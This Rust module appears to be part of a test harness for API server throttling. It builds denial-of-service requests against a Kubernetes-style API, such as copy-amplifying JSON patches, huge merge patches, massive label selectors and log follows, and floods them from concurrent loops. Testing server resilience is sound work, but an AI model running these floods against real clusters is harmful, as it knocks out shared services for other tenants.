//! Attacks by requests that ask for much.

use super::{Attack, MAPS, PODS};
use crate::wire::Http;
use http::Request;
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Duration;
use tokio::runtime::Runtime;

/// Requests that an attacker has under way.
const AT_ONCE: usize = 16;
/// How long an attacker waits after a refusal, which costs it nothing.
const AFTER_REFUSAL: Duration = Duration::from_millis(10);

/// The pods that attacks are about.
pub fn pods() -> [Value; 2] {
    let variable = |at: usize| json!({"name": format!("V{at}"), "value": "x"});
    let env: Vec<Value> = (0..2_000).map(variable).collect();
    let container = json!({"name": "a", "image": "a", "env": env});
    [
        json!({"metadata": {"name": "many"}, "spec": {"containers": [container]}}),
        json!({"metadata": {"name": "logs"}, "spec": {"nodeName": "n1", "containers": [{"name": "a", "image": "a"}]}}),
    ]
}

/// What is sent, prepared once.
struct Shot {
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, &'static str)>,
    body: Vec<u8>,
}

impl Shot {
    fn get(path: String) -> Self {
        Self {
            method: "GET",
            path,
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    fn send(method: &'static str, path: String, media: &'static str, body: String) -> Self {
        Self {
            method,
            path,
            headers: vec![("content-type", media)],
            body: body.into_bytes(),
        }
    }

    fn request(&self) -> Request<Vec<u8>> {
        let mut request = Request::builder().method(self.method).uri(&self.path);
        for (name, value) in &self.headers {
            request = request.header(*name, *value);
        }
        request.body(self.body.clone()).unwrap()
    }
}

/// Sends the same request over and over.
pub fn flood(runtime: &Runtime, attack: Attack, tenant: &Http) {
    let shot = Arc::new(shot(attack));
    for _ in 0..AT_ONCE {
        let (tenant, shot) = (tenant.clone(), shot.clone());
        runtime.spawn(async move {
            loop {
                match tenant.try_send(shot.request()).await {
                    Ok(answer) if answer.code != 429 => {}
                    _ => tokio::time::sleep(AFTER_REFUSAL).await,
                }
            }
        });
    }
}

fn shot(attack: Attack) -> Shot {
    const JSON: &str = "application/json";
    const JSON_PATCH: &str = "application/json-patch+json";
    match attack {
        Attack::TinyValues => {
            let maps = vec!["{\"a\":0}"; 100_000].join(",");
            let body = format!(r#"{{"metadata":{{"name":"x"}},"x":[{maps}]}}"#);
            Shot::send("POST", format!("{MAPS}?dryRun=All"), JSON, body)
        }
        Attack::CopyingPatches => {
            let mut patch = vec![json!({"op": "add", "path": "/x", "value": [[], []]})];
            for _ in 0..18 {
                patch.push(json!({"op": "copy", "from": "/x", "path": "/x/-"}));
            }
            patch.resize(
                700,
                json!({"op": "copy", "from": "/metadata/name", "path": "/x/0"}),
            );
            json_patch(patch, JSON_PATCH)
        }
        Attack::ShiftingPatches => {
            let list = vec![0; 10_000];
            let mut patch = vec![json!({"op": "add", "path": "/x", "value": list})];
            patch.resize(9_000, json!({"op": "add", "path": "/x/0", "value": 0}));
            json_patch(patch, JSON_PATCH)
        }
        Attack::RepeatingPatches => {
            let item = json!({"name": "a", "env": [{"name": "V1", "value": "y"}]});
            let patch = json!({"spec": {"containers": vec![item; 2_000]}});
            let media = "application/strategic-merge-patch+json";
            Shot::send(
                "PATCH",
                format!("{PODS}/many?dryRun=All"),
                media,
                patch.to_string(),
            )
        }
        Attack::LargePatches => {
            let entry = |at: usize| (format!("key-{at}"), json!("0123456789"));
            let data: serde_json::Map<String, Value> = (0..75_000).map(entry).collect();
            let patch = json!({"data": data}).to_string();
            let media = "application/merge-patch+json";
            Shot::send("PATCH", format!("{MAPS}/m0?dryRun=All"), media, patch)
        }
        Attack::HugeSelectors => {
            let terms: Vec<String> = (0..900).map(|at| format!("%21a{at}")).collect();
            Shot::get(format!("{MAPS}?labelSelector={}", terms.join("%2C")))
        }
        Attack::Tables => Shot {
            headers: vec![("accept", "application/json;as=Table;v=v1;g=meta.k8s.io")],
            ..Shot::get(MAPS.to_owned())
        },
        Attack::PrettyLists => Shot::get(format!("{MAPS}?pretty=true")),
        Attack::LogFollows => Shot::get(format!("{PODS}/logs/log?follow=true")),
        _ => {
            let asked = json!({"namespace": "default", "verb": "get", "resource": "pods"});
            let review = json!({"spec": {"resourceAttributes": asked}}).to_string();
            let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
            Shot::send("POST", path.to_owned(), JSON, review)
        }
    }
}

fn json_patch(patch: Vec<Value>, media: &'static str) -> Shot {
    let body = Value::Array(patch).to_string();
    Shot::send("PATCH", format!("{MAPS}/m0?dryRun=All"), media, body)
}
